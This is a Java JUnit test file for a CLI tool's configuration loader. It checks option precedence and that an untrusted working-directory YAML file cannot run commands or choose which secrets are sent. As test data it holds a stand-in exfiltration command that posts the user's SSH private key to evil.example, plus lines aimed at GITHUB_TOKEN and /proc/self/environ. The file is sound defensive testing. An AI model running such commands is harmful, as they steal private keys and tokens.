package com.hubble.kit.runner.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;

class KitConfigurationTest {
    @TempDir
    Path dir;

    @Command(name = "check")
    static final class FakeCheck implements Runnable {
        @Option(names = "--base-url") String baseUrl;
        @Option(names = "--timeout", defaultValue = "5s") String timeout;
        @Option(names = "--skip") List<String> skip = new ArrayList<>();
        @Option(names = "--strict") boolean strict;
        @Option(names = "--token") List<String> tokens = new ArrayList<>();
        @Option(names = "--token-command") String tokenCommand;
        @Option(names = "--secret-env") String secretEnv;
        @Option(names = "--secret-file") Path secretFile;

        @Override
        public void run() {
        }
    }

    @Command(name = "client-check")
    static final class FakeClientCheck implements Runnable {
        @Option(names = "--run") String run;
        @Option(names = "--max-duration") String maxDuration;

        @Override
        public void run() {
        }
    }

    @Command(name = "serve")
    static final class FakeServe implements Runnable {
        @Option(names = "--config") Path config;

        @Override
        public void run() {
        }
    }

    @Command(name = "hubble-kit", subcommands = {FakeCheck.class, FakeClientCheck.class, FakeServe.class})
    static final class Root implements Runnable {
        @Override
        public void run() {
        }
    }

    private FakeCheck runCheck(Map<String, String> env, String... args) throws UsageError {
        CommandLine root = new CommandLine(new Root());
        KitConfiguration.install(root, env, dir, args);
        assertEquals(0, root.execute(args));
        return root.getSubcommands().get("check").getCommand();
    }

    private void file(String yaml) throws IOException {
        Files.writeString(dir.resolve(KitConfiguration.FILE_NAME), yaml);
    }

    @Test
    void aFlagBeatsTheEnvironmentWhichBeatsTheFile() throws Exception {
        file("check:\n  base-url: https://from-file.example\n  timeout: 7s\n  skip: [sso.perf.latency, sso.perf.concurrency]\n");
        Map<String, String> env = Map.of("HUBBLE_KIT_CHECK_BASE_URL", "https://from-env.example");

        assertEquals("https://from-flag.example", runCheck(env, "check", "--base-url", "https://from-flag.example").baseUrl);
        assertEquals("https://from-env.example", runCheck(env, "check").baseUrl);
        FakeCheck fromFile = runCheck(Map.of(), "check");
        assertEquals("https://from-file.example", fromFile.baseUrl);
        assertEquals("7s", fromFile.timeout);
        assertEquals(List.of("sso.perf.latency", "sso.perf.concurrency"), fromFile.skip);
    }

    @Test
    void repeatableOptionsFollowTheSamePrecedence() throws Exception {
        file("check:\n  skip: [a.from-file]\n");
        Map<String, String> env = Map.of("HUBBLE_KIT_CHECK_SKIP", "b.from-env, c.from-env");
        assertEquals(List.of("b.from-env", "c.from-env"), runCheck(env, "check").skip);
        assertEquals(List.of("d.from-flag"), runCheck(env, "check", "--skip", "d.from-flag").skip);
    }

    @Test
    void withoutAnyConfigTheCommandsOwnDefaultsStay() throws Exception {
        FakeCheck check = runCheck(Map.of(), "check");
        assertNull(check.baseUrl);
        assertEquals("5s", check.timeout);
        assertFalse(check.strict);
    }

    @Test
    void anExplicitConfigFileIsReadInsteadOfTheWorkingDirectoryOne() throws Exception {
        file("check:\n  base-url: https://implicit.example\n");
        Path ci = Files.writeString(dir.resolve("ci.yml"), "check:\n  base-url: https://explicit.example\n  strict: true\n");
        FakeCheck check = runCheck(Map.of(), "check", "--config", ci.toString());
        assertEquals("https://explicit.example", check.baseUrl);
        assertTrue(check.strict);
    }

    @Test
    void anUnknownKeyIsAnErrorNamingItAndTheNearestValidKey() throws Exception {
        file("check:\n  base-ulr: https://typo.example\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("'check.base-ulr'"), error.getMessage());
        assertTrue(error.getMessage().contains("did you mean 'base-url'?"), error.getMessage());
    }

    @Test
    void anUnknownCommandSectionSuggestsTheNearestCommand() throws Exception {
        file("chek:\n  base-url: https://typo.example\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("'chek'") && error.getMessage().contains("did you mean 'check'?"),
                error.getMessage());
    }

    @Test
    void aSecretValueInTheFileIsRejectedSayingHowToReferenceIt() throws Exception {
        file("check:\n  secret: hunter2-the-actual-secret\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("check.secret") && error.getMessage().contains("secret-env")
                && error.getMessage().contains("secret-file"), error.getMessage());
        assertFalse(error.getMessage().contains("hunter2"), "the value must not be echoed");
    }

    @Test
    void aTokenValueInTheFileIsRejectedPointingToTheTokenCommand() throws Exception {
        file("check:\n  token: eyJhbGciOi-a-real-token\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("check.token") && error.getMessage().contains("token-command"),
                error.getMessage());
        assertFalse(error.getMessage().contains("eyJhbGciOi"), "the value must not be echoed");
    }

    @Test
    void aSecretValueInTheFileIsPointedAtTheReferencesThatExistAndDescribesEachOne() throws Exception {
        file("check:\n  secret: s3cr3t-value\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("secret-env (an environment variable name)")
                && error.getMessage().contains("secret-file (a file path)"), error.getMessage());
        assertFalse(error.getMessage().contains("a command that prints it"),
                "check has no secret command, so the message must not offer one: " + error.getMessage());
        assertFalse(error.getMessage().contains("s3cr3t-value"), "the value must not be echoed");
    }

    @Test
    void aSecretLookingKeyThatNoCommandHasIsRejectedAsASecretNotAsATypo() throws Exception {
        file("check:\n  client-secret: s3cr3t-value\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("would hold a secret value"), error.getMessage());
    }

    @Test
    void anImplicitFileMayNotRunACommandAndTheErrorSaysWhyAndHowToFixIt() throws Exception {
        file("check:\n  base-url: https://partner.example\n  token-command: curl -d @$HOME/.ssh/id_rsa evil.example\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        String message = error.getMessage();
        assertTrue(message.contains("check.token-command runs a command"), message);
        assertTrue(message.contains("found in the working directory") && message.contains("untrusted pull request"), message);
        assertTrue(message.contains("--config hubble-kit.yaml") && message.contains("--token-command")
                && message.contains("HUBBLE_KIT_CHECK_TOKEN_COMMAND"), message);
        assertFalse(message.contains("evil.example"), "the value is not echoed");
    }

    @Test
    void anImplicitFileMayNotChooseWhichEnvironmentVariableIsSentAsTheSecret() throws Exception {
        file("check:\n  secret-env: GITHUB_TOKEN\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("check.secret-env chooses which environment variable is sent"),
                error.getMessage());
    }

    @Test
    void anImplicitFileMayNotChooseWhichFileIsSentAsTheSecret() throws Exception {
        file("check:\n  secret-file: /proc/self/environ\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains("check.secret-file chooses which file is sent"), error.getMessage());
    }

    @Test
    void anImplicitFileStillSetsEveryOtherOption() throws Exception {
        file("check:\n  base-url: https://partner.example\n  timeout: 9s\n  strict: true\n");
        FakeCheck check = runCheck(Map.of(), "check");
        assertEquals("https://partner.example", check.baseUrl);
        assertEquals("9s", check.timeout);
        assertTrue(check.strict);
    }

    @Test
    void anExplicitConfigFileMaySetCommandsAndSecretReferences() throws Exception {
        file("check:\n  token-command: ./ci/mint.sh\n  secret-env: HUBBLE_SECRET\n  secret-file: ci/secret\n");
        FakeCheck check = runCheck(Map.of(), "check", "--config", KitConfiguration.FILE_NAME);
        assertEquals("./ci/mint.sh", check.tokenCommand);
        assertEquals("HUBBLE_SECRET", check.secretEnv);
        assertEquals(Path.of("ci/secret"), check.secretFile);
    }

    @Test
    void flagsAndVariablesMaySetThemBesideAnImplicitFile() throws Exception {
        file("check:\n  base-url: https://partner.example\n");
        FakeCheck fromEnvironment = runCheck(Map.of("HUBBLE_KIT_CHECK_TOKEN_COMMAND", "./ci/mint.sh",
                "HUBBLE_KIT_CHECK_SECRET_ENV", "HUBBLE_SECRET"), "check");
        assertEquals("./ci/mint.sh", fromEnvironment.tokenCommand);
        assertEquals("HUBBLE_SECRET", fromEnvironment.secretEnv);
        assertEquals("https://partner.example", fromEnvironment.baseUrl);
        assertEquals("./other.sh", runCheck(Map.of(), "check", "--token-command", "./other.sh").tokenCommand);
    }

    @Test
    void anImplicitFilesCommandKeysOfAnotherCommandDoNotStopThisOneAndAreNotUsed() throws Exception {
        // CI.md's sample file: one file for every command, committed at the root of the repository.
        file("check:\n  base-url: https://partner.example\nclient-check:\n  run: python3 client.py\n  max-duration: 30s\n");
        FakeCheck check = runCheck(Map.of(), "check");
        assertEquals("https://partner.example", check.baseUrl);
        CommandLine root = new CommandLine(new Root());
        UsageError error = assertThrows(UsageError.class, () -> KitConfiguration.install(root, Map.of(), dir, "client-check"));
        assertTrue(error.getMessage().contains("client-check.run runs a command"), error.getMessage());
    }

    @Test
    void anUntrustedKeyOfAnImplicitFileGivenByAFlagOrAVariableIsNotUsedAndNotAnError() throws Exception {
        file("check:\n  base-url: https://partner.example\n  token-command: curl evil.example\n  secret-env: GITHUB_TOKEN\n");
        FakeCheck flags = runCheck(Map.of(), "check", "--token-command", "./ci/mint.sh", "--secret-env=HUBBLE_SECRET");
        assertEquals("./ci/mint.sh", flags.tokenCommand);
        assertEquals("HUBBLE_SECRET", flags.secretEnv);
        assertEquals("https://partner.example", flags.baseUrl);
        FakeCheck variables = runCheck(Map.of("HUBBLE_KIT_CHECK_TOKEN_COMMAND", "./ci/mint.sh",
                "HUBBLE_KIT_CHECK_SECRET_ENV", "HUBBLE_SECRET"), "check");
        assertEquals("./ci/mint.sh", variables.tokenCommand);
        assertEquals("HUBBLE_SECRET", variables.secretEnv);
        // One of the two given, the other still comes from the file: refused, naming the one left.
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check", "--token-command", "./m.sh"));
        assertTrue(error.getMessage().contains("check.secret-env"), error.getMessage());
        assertTrue(error.getMessage().contains("--no-config"), error.getMessage());
    }

    @Test
    void noConfigReadsNoFileNotEvenTheImplicitOne() throws Exception {
        file("check:\n  base-url: https://partner.example\n  token-command: curl evil.example\n");
        FakeCheck check = runCheck(Map.of(), "check", "--no-config");
        assertNull(check.baseUrl, "the embedded reference, not the file's partner");
        assertNull(check.tokenCommand);
        FakeCheck withVariable = runCheck(Map.of("HUBBLE_KIT_CHECK_TIMEOUT", "7s"), "check", "--no-config");
        assertEquals("7s", withVariable.timeout, "variables still apply");
        UsageError both = assertThrows(UsageError.class,
                () -> runCheck(Map.of(), "check", "--no-config", "--config", KitConfiguration.FILE_NAME));
        assertTrue(both.getMessage().contains("not both"), both.getMessage());
    }

    @Test
    void aConfigThatIsADirectoryIsNamedAsOne() throws Exception {
        Files.createDirectory(dir.resolve("conf"));
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check", "--config", "conf"));
        assertTrue(error.getMessage().contains("conf is a directory"), error.getMessage());
    }

    @Test
    void anUnknownEnvironmentVariableForTheCommandIsAnErrorWithASuggestion() {
        UsageError error = assertThrows(UsageError.class,
                () -> runCheck(Map.of("HUBBLE_KIT_CHECK_TIMEOUTS", "3s"), "check"));
        assertTrue(error.getMessage().contains("HUBBLE_KIT_CHECK_TIMEOUTS")
                && error.getMessage().contains("HUBBLE_KIT_CHECK_TIMEOUT?"), error.getMessage());
    }

    @Test
    void malformedYamlIsAnErrorNamingTheFile() throws Exception {
        file("check:\n  base-url: [unclosed\n");
        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
        assertTrue(error.getMessage().contains(KitConfiguration.FILE_NAME), error.getMessage());
    }

    @Test
    void aMissingExplicitConfigFileIsAnError() {
        UsageError error = assertThrows(UsageError.class,
                () -> runCheck(Map.of(), "check", "--config", "nowhere.yaml"));
        assertTrue(error.getMessage().contains("nowhere.yaml"), error.getMessage());
    }

    @Test
    void serveKeepsItsOwnConfigOptionAndIgnoresTheKitFile() throws Exception {
        file("this is: [not, for, serve\n");
        CommandLine root = new CommandLine(new Root());
        Path serverConfig = dir.resolve("server.yaml");
        KitConfiguration.install(root, Map.of(), dir, "serve", "--config", serverConfig.toString());
        assertEquals(0, root.execute("serve", "--config", serverConfig.toString()));
        FakeServe serve = root.getSubcommands().get("serve").getCommand();
        assertEquals(serverConfig, serve.config);
    }

    @Test
    void nearestKeyUsesEditDistance() {
        assertEquals(2, NearestKey.distance("base-ulr", "base-url"));
        assertEquals("timeout", NearestKey.to("timout", List.of("strict", "timeout", "skip")).orElseThrow());
    }
}
